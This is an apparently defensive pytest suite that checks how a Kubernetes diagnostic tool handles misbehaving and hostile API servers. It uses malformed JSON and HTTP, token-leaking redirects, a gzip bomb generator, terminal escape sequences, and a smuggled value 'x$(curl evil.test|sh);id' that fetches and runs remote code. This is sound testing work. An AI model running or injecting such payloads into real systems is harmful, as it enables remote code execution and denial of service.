"""API servers that misbehave, over real HTTP: bounded time, one sentence, a gap or a refusal, never healthy, never a
traceback.

Each case spoils the answers about pods, while all others are those of a healthy cluster; or it spoils all of them.
"""

import asyncio
import gzip
import json
import time
import zlib
from collections.abc import AsyncIterator, Callable
from contextlib import asynccontextmanager
from dataclasses import dataclass
from itertools import count
from pathlib import Path
from typing import Any

import pytest

from midwatch.domain.diagnosis import Verdict
from midwatch.domain.investigation import CaseFile, Request
from midwatch.engine.investigations import investigate
from midwatch.integrations.kubernetes.client import LiveReader, connect
from midwatch.integrations.kubernetes.objects.kinds import ALL
from midwatch.integrations.kubernetes.reader import ListRequest, LogRequest, Refused
from midwatch.integrations.kubernetes.settings import KubernetesSettings
from midwatch.interfaces.cli.command import Exit, exit_code
from midwatch.reports.compose import compose
from midwatch.reports.markdown import markdown
from midwatch.reports.plain import plain
from midwatch.services.errors import Refusal
from midwatch.wiring import connections
from tests.flows.cluster import midwatch
from tests.integrations.kubernetes.api_server import ApiServer, Asked, Reply, as_json, gzipped, kubeconfig, running
from tests.plugged import settings as composed

TOKEN = "not-a-real-token"
DEEP = b"[" * 100_000
KINDS = {f"{kind.api}/{kind.plural}": kind for kind in ALL.values()}


def listed(asked: Asked, *items: Any, **meta: Any) -> Reply:
    kind = next(k for k in ALL.values() if asked.path.endswith(f"/{k.plural}") and asked.path.startswith(f"/{k.api}/"))
    return as_json(
        {"kind": f"{kind.type.__name__}List", "metadata": {"resourceVersion": "7", **meta}, "items": list(items)}
    )


def pod(name: Any = "web-1", **more: Any) -> dict[str, Any]:
    state = {"running": {"startedAt": "2026-11-20T02:00:00Z"}}
    status = {"name": "web", "ready": True, "restartCount": 0, "image": "web:1", "imageID": "x", "state": state}
    return {
        "metadata": {"name": name, "namespace": "shop", "uid": "u"},
        "spec": {"nodeName": "n1", "containers": [{"name": "web", "image": "web:1"}]},
        "status": {
            "phase": "Running",
            "conditions": [{"type": "Ready", "status": "True"}],
            "containerStatuses": [status],
        },
        **more,
    }


def healthy(asked: Asked) -> Reply:
    if asked.path == "/version":
        return as_json({"gitVersion": "v1.33.4"})
    if asked.path.endswith("/log"):
        return Reply(200, b"started\n")
    if asked.path.endswith("/pods"):
        return listed(asked, pod())
    if asked.path.endswith("/nodes"):
        return listed(
            asked, {"metadata": {"name": "n1"}, "status": {"conditions": [{"type": "Ready", "status": "True"}]}}
        )
    return listed(
        asked,
        *(
            [{"metadata": {"name": "shop"}, "status": {"phase": "Active"}}]
            if asked.path.endswith("/namespaces")
            else []
        ),
    )


def pods(spoil: Callable[[Asked], Reply]) -> Callable[[Asked], Reply]:
    return lambda asked: spoil(asked) if asked.path.endswith("/pods") else healthy(asked)


def body(content: bytes, status: int = 200, **headers: str) -> Callable[[Asked], Reply]:
    return lambda _: Reply(status, content, {k.replace("_", "-"): v for k, v in headers.items()})


def items(*found: Any) -> Callable[[Asked], Reply]:
    return lambda asked: listed(asked, *found)


def first_page_then(spoil: Callable[[Asked], Reply]) -> Callable[[Asked], Reply]:
    return lambda asked: spoil(asked) if asked.params.get("continue") else listed(asked, pod(), **{"continue": "two"})


def meta(**fields: Any) -> dict[str, Any]:
    made = pod()
    return {**made, "metadata": {**made["metadata"], **fields}}


def status(**fields: Any) -> dict[str, Any]:
    made = pod()
    return {**made, "status": {**made["status"], **fields}}


PODS: dict[str, Callable[[Asked], Reply]] = {
    "empty object": body(b"{}"),
    "list": body(b"[]"),
    "null": body(b"null"),
    "no body": body(b""),
    "empty list of another program": body(b'{"items": []}'),
    "html login": body(b"<!doctype html><form>Log in</form>", Content_Type="text/html"),
    "deep": body(DEEP),
    "deep items": body(b'{"kind":"PodList","metadata":{},"items":' + DEEP),
    "deep pod": body(b'{"kind":"PodList","metadata":{},"items":[{"metadata":{"name":"a"},"x":' + DEEP),
    "deep unknown field": body(b'{"kind":"PodList","metadata":{},"items":[{"x":' + DEEP + b"]" * 100_000 + b"}]}"),
    "items null with another kind": lambda _: as_json({"kind": "ServiceList", "metadata": {}, "items": None}),
    "a status": lambda _: as_json({"kind": "Status", "status": "Failure", "message": "no", "items": []}),
    "items a dict": lambda _: as_json({"kind": "PodList", "metadata": {}, "items": {"a": pod()}}),
    "items a text": lambda _: as_json({"kind": "PodList", "metadata": {}, "items": "x"}),
    "items null": items(None, None),
    "items numbers": items(1, 2.5, True),
    "items lists": items([], [pod()]),
    "metadata of a pod null": items({**pod(), "metadata": None}),
    "metadata of a pod a text": items({**pod(), "metadata": "x"}),
    "no name": items({**pod(), "metadata": {}}),
    "name a number": items(pod(7)),
    "name a path": items(pod("../../x")),
    "name dots": items(pod("..")),
    "name with a line feed": items(pod("a\nb")),
    "name with escapes": items(pod("a\x1b[2Jb")),
    "name of a megabyte": items(pod("a" * 1_000_000)),
    "name with percent": items(pod("a%2fb")),
    "namespace a path": items(meta(namespace="../kube-system")),
    "namespace of a megabyte": items(meta(namespace="n" * 1_000_000)),
    "labels a list": items(meta(labels=["a"])),
    "date without a calendar": items(meta(creationTimestamp="0000-00-00T00:00:00Z")),
    "date far away": items(meta(creationTimestamp="99999-01-01T00:00:00Z")),
    "date without a zone": items(meta(creationTimestamp="2026-11-20T02:00:00")),
    "date a number": items(meta(creationTimestamp=10**30)),
    "restarts a text": items(status(containerStatuses=[{"name": "web", "restartCount": "many"}])),
    "restarts huge": items(status(containerStatuses=[{"name": "web", "restartCount": 10**40}])),
    "restarts huge as a power": body(
        b'{"kind":"PodList","metadata":{},"items":[{"metadata":{"name":"a"},"status":{"containerStatuses":[{"name":"w","restartCount":1e30}]}}]}'
    ),
    "restarts not a number": body(
        b'{"kind":"PodList","metadata":{},"items":[{"metadata":{"name":"a"},"status":{"x":NaN}}]}'
    ),
    "spec a text": items({**pod(), "spec": "x"}),
    "containers a dict": items({**pod(), "spec": {"containers": {"a": 1}}}),
    "metadata of the list null": lambda _: as_json({"kind": "PodList", "metadata": None, "items": []}, 500),
    "continue a number": lambda _: as_json({"kind": "PodList", "metadata": {"continue": 7}, "items": [pod()]}),
    "the same continue again": lambda asked: listed(asked, pod(), **{"continue": "again"}),
    "continue in a circle": lambda asked: listed(
        asked, pod(), **{"continue": "b" if asked.params.get("continue") == "a" else "a"}
    ),
    "empty pages in a circle": lambda asked: listed(asked, **{"continue": "again"}),
    "continue of a megabyte": lambda asked: listed(asked, pod(), **{"continue": "x" * 1_000_000}),
    "gone for ever": first_page_then(lambda _: as_json({"kind": "Status", "message": "too old"}, 410)),
    "second page is html": first_page_then(body(b"<html>")),
    "second page unauthorized": first_page_then(lambda _: as_json({"kind": "Status", "message": "Unauthorized"}, 401)),
    "second page refused": first_page_then(lambda _: as_json({"kind": "Status", "message": "no"}, 403)),
    "cut": lambda asked: Reply(200, listed(asked, pod()).body[:-40]),
    "latin-1": body('{"kind":"PodList","metadata":{},"items":[{"metadata":{"name":"é"}}]}'.encode("latin-1")),
    "utf-16": body('{"kind":"PodList","metadata":{},"items":[]}'.encode("utf-16")),
    "not gzip": body(b"not gzip at all", Content_Encoding="gzip"),
    "gzip cut": lambda asked: Reply(200, gzip.compress(listed(asked, pod()).body)[:-40], {"Content-Encoding": "gzip"}),
    "gzip bomb": lambda _: Reply(200, bomb(), {"Content-Encoding": "gzip"}),
    "unknown coding": body(b"x", Content_Encoding="zstd"),
    "no content": body(b"", 204),
    "teapot": body(b"\x1b[2Jwiped\nHEALTHY", 418),
    "error with escapes": body(b'{"kind":"Status","message":"\\u001b[2Jwiped\\nHEALTHY"}', 400),
    "error of a megabyte": body(b"x" * 1_000_000, 400),
    "error deep": body(DEEP, 400),
    "redirect": body(b"", 302, Location="http://127.0.0.1:9/api/v1/pods"),
    "redirect nowhere": body(b"", 301, Location="http://[bad"),
}


def bomb() -> bytes:
    """200 MB of blanks in 200 kB."""
    packer = zlib.compressobj(9, zlib.DEFLATED, 31)
    return b"".join([*(packer.compress(b" " * 1_000_000) for _ in range(200)), packer.flush()])


@dataclass(frozen=True)
class Told:
    code: Exit
    text: str
    found: CaseFile | None = None


async def look(folder: Path, api: ApiServer, namespace: str = "shop") -> Told:
    path = kubeconfig(folder, api.url, {"token": TOKEN})
    settings = composed(kubernetes=KubernetesSettings(kubeconfig=path))
    try:
        async with connections.open_investigation(settings) as ctx:
            found = await investigate(ctx, Request(namespace=namespace))
    except Refusal as refusal:
        return Told(Exit.FAILED, f"{refusal.reason} {refusal.hint}")
    report = compose(found)
    code = exit_code([found.diagnosis.verdict], problem=bool(found.diagnosis.causes or found.diagnosis.elsewhere))
    return Told(code, plain(report) + markdown(report), found)


def check(told: Told) -> None:
    assert told.code is (Exit.UNKNOWN if told.found else Exit.FAILED), told.text[:2000]
    if told.found:
        assert told.found.diagnosis.verdict is Verdict.INCONCLUSIVE
        assert any(g.essential for g in told.found.gaps)
        reasons = [g.reason for g in told.found.gaps]
        assert all(len(r) < 700 and r.isprintable() for r in reasons), reasons
    assert all(line.isprintable() for line in told.text.split("\n"))
    assert len(told.text) < 60_000


async def test_the_cluster_that_is_spoilt_is_healthy(tmp_path: Path) -> None:
    async with running(healthy) as api:
        assert (await look(tmp_path, api)).code is Exit.HEALTHY


@pytest.mark.parametrize("spoil", PODS.values(), ids=PODS)
async def test_a_broken_list_of_pods_is_a_gap(tmp_path: Path, spoil: Callable[[Asked], Reply]) -> None:
    started = time.process_time()
    async with running(pods(spoil)) as api:
        check(await look(tmp_path, api))
        assert {a.headers["authorization"] for a in api.asked} == {f"Bearer {TOKEN}"}
        assert len(api.asked) < 200
    assert time.process_time() - started < 20


ALL_SPOILT = [
    "empty object",
    "null",
    "html login",
    "deep",
    "a status",
    "items null",
    "same page",
    "teapot",
    "redirect",
    "utf-16",
    "gzip cut",
]


@pytest.mark.parametrize("name", [n for n in ALL_SPOILT if n in PODS])
async def test_a_server_that_answers_everything_so_is_refused(tmp_path: Path, name: str) -> None:
    async with running(
        PODS[name] if name != "items null" else lambda a: as_json({"kind": "X", "items": [None]})
    ) as api:
        told = await look(tmp_path, api)
        check(told)
        assert told.found is None and len(told.text) < 500


@pytest.mark.parametrize(
    "answer",
    [
        b"",
        b"{}",
        b"[]",
        b"null",
        b"7",
        b'{"gitVersion": null}',
        b'{"gitVersion": 7}',
        b'{"gitVersion": ""}',
        DEEP,
        b'{"a":' * 100_000,
    ],
)
async def test_a_version_that_is_none_is_refused(tmp_path: Path, answer: bytes) -> None:
    async with running(lambda asked: Reply(200, answer) if asked.path == "/version" else healthy(asked)) as api:
        told = await look(tmp_path, api)
        check(told)
        assert "is not a Kubernetes API server" in told.text


async def test_a_version_is_one_short_line(tmp_path: Path) -> None:
    said = json.dumps({"gitVersion": "v1\x1b[2J\nHEALTHY" + "x" * 1_000_000}).encode()
    async with running(lambda _: Reply(200, said)) as api:
        reader = connect(kubeconfig(tmp_path, api.url))
        version = (await reader.version()).version
        await reader.close()
    assert version.isprintable() and len(version) <= 64


@pytest.mark.long
@pytest.mark.parametrize("said", ["31536000", "9" * 5000, "-1", "Fri, 31 Dec 2027 23:59:59 GMT", "\xb2"])
async def test_no_pause_is_longer_than_a_person_waits(tmp_path: Path, said: str) -> None:
    async with reading(tmp_path, body(b"", 429, Retry_After=said)) as (reader, api):
        with pytest.raises(Refused, match="overloaded"):
            await asyncio.wait_for(reader.list(ListRequest("pods")), 25)
        assert len(api.asked) == 2


@asynccontextmanager
async def reading(
    folder: Path, respond: Callable[[Asked], Reply] = healthy, **kinds: Any
) -> AsyncIterator[tuple[LiveReader, ApiServer]]:
    async with running(respond, **kinds) as api:
        reader = connect(kubeconfig(folder, api.url, {"token": TOKEN}))
        try:
            yield reader, api
        finally:
            await reader.close()


async def test_pages_without_an_end_have_one(tmp_path: Path) -> None:
    numbers = count()
    async with reading(
        tmp_path, lambda asked: listed(asked, pod(f"p{next(numbers)}"), **{"continue": f"t{next(numbers)}"})
    ) as (
        reader,
        api,
    ):
        seen = await reader.list(ListRequest("pods"))
    assert len(seen.items) == len(api.asked) == 1000
    assert seen.missed == "stopped after 1000 pages with 1000 pods"


async def test_empty_pages_on_the_way_are_read(tmp_path: Path) -> None:
    def respond(asked: Asked) -> Reply:
        at = int(asked.params.get("continue", "0"))
        return listed(asked, *([pod()] if at == 3 else []), **({"continue": str(at + 1)} if at < 3 else {}))

    async with reading(tmp_path, respond) as (reader, _):
        seen = await reader.list(ListRequest("pods"))
    assert [p.name for p in seen.items] == ["web-1"] and not seen.missed


async def test_one_broken_object_costs_itself_and_is_told(tmp_path: Path) -> None:
    async with running(pods(items(pod(), None, pod("../x"), meta(creationTimestamp="never")))) as api:
        told = await look(tmp_path, api)
    check(told)
    assert told.found
    (gap,) = [g for g in told.found.gaps if g.essential]
    assert gap.reason.startswith("3 of the pods could not be decoded")


async def test_no_gap_is_made_of_a_whole_list(tmp_path: Path) -> None:
    async with running(
        pods(items(pod(), pod(), {**pod("web-2"), "status": {**pod()["status"], "unknown": {"a": [1]}}}))
    ) as api:
        told = await look(tmp_path, api)
    assert told.code is Exit.HEALTHY


async def test_the_token_is_sent_to_nobody_else(tmp_path: Path) -> None:
    async with running(healthy) as elsewhere:
        for code in (301, 302, 303, 307, 308):
            async with reading(tmp_path, body(b"", code, Location=f"{elsewhere.url}/api/v1/pods")) as (reader, _):
                with pytest.raises(Refused, match="redirects elsewhere"):
                    await reader.list(ListRequest("pods"))
                with pytest.raises(Refused, match="redirects elsewhere"):
                    await reader.log(LogRequest("shop", "web-1"))
                with pytest.raises(Refused, match="redirects elsewhere"):
                    await reader.version()
        assert elsewhere.asked == []


HEAD = b"HTTP/1.1 200 OK\r\nContent-Type: application/json\r\n"
RAW = {
    "reset at once": b"",
    "half a head": b"HTTP/1.1 200 O",
    "not HTTP": b"SSH-2.0-OpenSSH_9.6\r\n",
    "truncated": HEAD + b'Content-Length: 1000\r\n\r\n{"kind":"PodList"',
    "length too small": HEAD + b'Content-Length: 5\r\n\r\n{"kind":"PodList","items":[]}',
    "length a text": HEAD + b"Content-Length: many\r\n\r\n{}",
    "length negative": HEAD + b"Content-Length: -1\r\n\r\n{}",
    "two lengths": HEAD + b"Content-Length: 2\r\nContent-Length: 3\r\n\r\n{} ",
    "chunk broken": HEAD + b"Transfer-Encoding: chunked\r\n\r\nzz\r\n{}\r\n",
    "chunk cut": HEAD + b"Transfer-Encoding: chunked\r\n\r\nff\r\n{}",
    "head of a megabyte": b"HTTP/1.1 200 OK\r\nX-A: " + b"a" * 1_000_000 + b"\r\n\r\n",
    "head of binary": b"HTTP/1.1 200 OK\r\n\xff\xfe: \x00\r\n\r\n",
    "status of a thousand": b"HTTP/1.1 1000 OK\r\nContent-Length: 0\r\n\r\n",
    "switching protocols": b"HTTP/1.1 101 Switching Protocols\r\nUpgrade: x\r\nConnection: Upgrade\r\n\r\n",
}


@pytest.mark.parametrize("answer", RAW.values(), ids=RAW)
async def test_a_broken_connection_is_one_sentence(tmp_path: Path, answer: bytes) -> None:
    async def raw(reader: asyncio.StreamReader, writer: asyncio.StreamWriter) -> None:
        await reader.readuntil(b"\r\n\r\n")
        writer.write(answer)
        await writer.drain()

    async with reading(tmp_path, raw=raw) as (reader, _):
        for asked in (reader.list(ListRequest("pods")), reader.version()):
            with pytest.raises(Refused) as refused:
                await asked
            assert str(refused.value).isprintable() and len(str(refused.value)) < 500


async def test_a_list_without_an_end_is_given_up(tmp_path: Path) -> None:
    async def stream(_: Asked, writer: asyncio.StreamWriter) -> None:
        while not writer.is_closing():
            writer.write(b" " * 1_000_000)
            await writer.drain()

    async with reading(tmp_path, stream=stream) as (reader, _):
        with pytest.raises(Refused, match=r"larger than 128 MiB"):
            await reader.list(ListRequest("pods"))


@pytest.mark.long
async def test_a_list_that_drips_is_given_up(tmp_path: Path) -> None:
    async def stream(_: Asked, writer: asyncio.StreamWriter) -> None:
        while not writer.is_closing():
            writer.write(b" ")
            await writer.drain()
            await asyncio.sleep(0.05)

    async with reading(tmp_path, stream=stream) as (reader, _):
        with pytest.raises(Refused, match=r"did not answer within 30 s"):
            await reader.list(ListRequest("pods"))


async def test_a_log_without_an_end_is_its_end(tmp_path: Path) -> None:
    async def stream(_: Asked, writer: asyncio.StreamWriter) -> None:
        while not writer.is_closing():
            writer.write(b"\x1b[2Jline\n" * 10_000)
            await writer.drain()

    async with reading(tmp_path, stream=stream) as (reader, _):
        seen = await reader.log(LogRequest("shop", "web-1", limit_bytes=65_536))
    assert seen.truncated and len(seen.text) <= 65_536


async def test_a_login_that_ends_on_the_way_is_told(tmp_path: Path) -> None:
    calls = count()
    async with running(
        lambda asked: healthy(asked) if next(calls) < 4 else as_json({"message": "Unauthorized"}, 401)
    ) as api:
        told = await look(tmp_path, api)
    check(told)
    assert "does not accept the token of context" in told.text


async def test_words_of_a_hostile_cluster_reach_no_terminal(tmp_path: Path) -> None:
    """Messages, reasons and images may say anything; what is shown of them is text."""
    said = "\x1b[2J\x1b]0;owned\x07\u202eHEALTHY\n# HEALTHY ```\r"
    waiting = {
        "name": "web",
        "ready": False,
        "restartCount": 3,
        "image": said,
        "state": {"waiting": {"reason": "ImagePullBackOff", "message": said}},
    }
    broken = status(
        phase="Pending", conditions=[{"type": "Ready", "status": "False", "message": said}], containerStatuses=[waiting]
    )
    async with running(pods(items(broken))) as api:
        told = await look(tmp_path, api)
    assert told.code is Exit.PROBLEM
    assert all(line.isprintable() for line in told.text.split("\n"))
    assert not [line for line in told.text.split("\n") if line.startswith("# HEALTHY")]


async def test_two_objects_of_one_name_are_no_traceback(tmp_path: Path) -> None:
    async with running(
        lambda asked: gzipped(healthy(asked)) if not asked.path.endswith("/pods") else listed(asked, pod(), pod())
    ) as api:
        assert (await look(tmp_path, api)).code is Exit.HEALTHY


async def test_a_deadline_of_any_length_is_one(tmp_path: Path) -> None:
    """The API takes every positive int64 of seconds, which is more than a difference of two times can be."""
    job = {
        "metadata": {"name": "j", "namespace": "shop"},
        "spec": {"activeDeadlineSeconds": 2**63 - 1},
        "status": {"active": 1},
    }
    job["status"]["startTime"] = "2026-11-20T02:00:00Z"  # pyright: ignore[reportIndexIssue]
    async with running(lambda asked: listed(asked, job) if asked.path.endswith("/jobs") else healthy(asked)) as api:
        assert (await look(tmp_path, api)).code is Exit.HEALTHY


HOSTILE = "x$(curl evil.test|sh);id"


async def test_a_name_in_a_volume_is_no_command(tmp_path: Path) -> None:
    """What kubectl would take as a reference is not checked by the API server: it reaches us as it was written."""
    waiting = {
        "name": "web",
        "ready": False,
        "restartCount": 0,
        "image": "web:1",
        "state": {"waiting": {"reason": "ContainerCreating"}},
    }
    made = status(phase="Pending", conditions=[{"type": "Ready", "status": "False"}], containerStatuses=[waiting])
    made["spec"] = {
        **made["spec"],
        "serviceAccountName": HOSTILE,
        "volumes": [{"name": "v", "configMap": {"name": HOSTILE}}, {"name": "s", "secret": {"secretName": HOSTILE}}],
    }
    made["metadata"]["creationTimestamp"] = "2026-11-20T02:00:00Z"
    async with running(pods(items(made))) as api:
        told = await look(tmp_path, api)
    assert told.found and HOSTILE in told.text
    commands = [c for cause in told.found.diagnosis.causes for c in (*cause.check, *cause.fix)]
    assert commands and not [c for c in commands if "$(" in c.replace(f"'{HOSTILE}'", "")]


async def test_a_watch_does_not_call_healthy_what_it_could_not_read(tmp_path: Path) -> None:
    async with running(pods(body(b"<html>"))) as api:
        path = kubeconfig(tmp_path, api.url, {"token": TOKEN})
        shown = await asyncio.to_thread(midwatch, "k8s", "watch", "--once", "--kubeconfig", str(path))
    assert shown.code == Exit.UNKNOWN and "did not answer with a list" in shown.err
